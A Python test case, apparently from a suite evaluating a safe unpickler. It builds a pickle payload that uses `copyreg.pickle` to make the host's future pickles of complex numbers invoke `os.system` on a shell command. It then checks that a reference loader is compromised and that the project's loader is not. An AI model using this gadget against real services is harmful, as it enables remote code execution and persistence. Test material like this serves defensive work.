"""A pickle that registers itself for later.

Wants: to run when the host next pickles something of its own
Against: `pickle.loads`, `copyreg.pickle`
Since: 0.1
"""

from __future__ import annotations

import copyreg
import os
import pickle

from gadgets import SHELL, carried, reduced
from harness import expose


def leave(number: complex) -> tuple[object, tuple[str]]:
    """How the host's complex numbers are pickled from then on."""
    return os.system, (SHELL,)


PICKLE = reduced(copyreg.pickle, complex, leave)


def victim(data: bytes) -> None:
    pickle.loads(data)
    pickle.loads(pickle.dumps(1j))


def peer() -> str:
    assert expose(__name__, PICKLE).marked
    return "succeeds: the host's own next pickle carries the gadget"


def ours() -> str:
    before = dict(copyreg.dispatch_table)
    told = carried(PICKLE)
    assert copyreg.dispatch_table == before
    return f"{told}; `copyreg.dispatch_table` is as it was"
